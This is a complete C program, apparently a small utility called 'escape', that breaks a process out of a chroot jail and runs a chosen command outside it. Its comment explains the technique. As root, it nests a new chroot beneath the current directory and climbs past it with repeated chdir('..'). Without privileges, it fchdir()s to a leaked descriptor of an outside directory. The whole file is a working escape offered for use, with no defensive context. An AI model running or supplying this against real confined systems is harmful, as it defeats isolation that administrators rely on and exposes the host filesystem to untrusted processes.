/*
 * escape - leave a chroot jail
 *
 *   escape COMMAND [ARG]...         as root
 *   escape -f FD COMMAND [ARG]...   as anybody to whom a directory was left open
 *
 * chroot(2) changes what "/" means and nothing else. ".." stops at the root directory only
 * for a process that is beneath it: whoever stands outside walks up as far as he likes.
 * Root gets outside by making its root a directory further down while it stays where it is;
 * then COMMAND has the real root. Without any privilege, a descriptor of a directory
 * outside leads there, and COMMAND starts in that.
 */
#include <err.h>
#include <errno.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void
make_outer_directory_the_root(void)
{
	if (mkdir("deeper", 0755) && errno != EEXIST)
		err(2, "mkdir");
	if (chroot("deeper"))
		err(1, "chroot");
	/* The root is its own parent, so that climbing too often does no harm. */
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			err(2, "chdir");
	if (chroot("."))
		err(2, "chroot");
}

int
main(int argc, char **argv)
{
	int opt, fd = -1;

	while ((opt = getopt(argc, argv, "+f:")) != -1) {
		if (opt != 'f')
			return 2;
		fd = atoi(optarg);
	}
	if (optind == argc)
		errx(2, "usage: escape [-f FD] COMMAND [ARG]...");

	if (fd < 0)
		make_outer_directory_the_root();
	else if (fchdir(fd))
		err(1, "fchdir");

	execvp(argv[optind], argv + optind);
	err(127, "%s", argv[optind]);
}
